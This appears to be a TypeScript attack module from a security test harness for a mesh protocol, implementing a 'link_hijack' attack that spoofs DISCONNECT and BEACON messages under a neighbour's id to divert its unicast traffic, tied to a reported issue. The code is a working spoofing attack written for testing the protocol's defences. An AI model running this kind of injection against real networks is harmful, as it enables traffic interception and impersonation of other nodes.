/**
 * Issue 19, class 1: a Beacon DISCONNECT naming neighbour B, then a BEACON carrying B's id,
 * both from the attacker's MAC. If DISCONNECT is not checked against the link it came on and
 * the newest link wins, every unicast to B goes to the attacker. One neighbour every 5 s.
 */
import { BeaconOp, serializeBeacon } from '../../../modules/mycelium/wire/messages/beacon.js';
import { framesFor } from '../frames.js';
import { pick, type Attack, type AttackContext } from '../attack.js';

const EVERY_MS = 5_000;

export const linkHijack: Attack = {
  name: 'link_hijack',
  start(ctx: AttackContext) {
    ctx.every(EVERY_MS, () => {
      const victim = pick(ctx.random, [...ctx.knows.neighbours.values()]);
      if (!victim) return;
      for (const op of [BeaconOp.DISCONNECT, BeaconOp.BEACON]) {
        const m = serializeBeacon({ op, nodeId: victim.id, apps: op === BeaconOp.BEACON ? ctx.apps.all : [] });
        if (!m.ok) continue;
        for (const f of framesFor(ctx.hashes, 'broadcast', ctx.tap.schemaIds, ctx.apps.beacon, m.value, ctx.ids)) ctx.inject(undefined, f);
      }
      ctx.tally('hijack attempts');
    });
  },
};
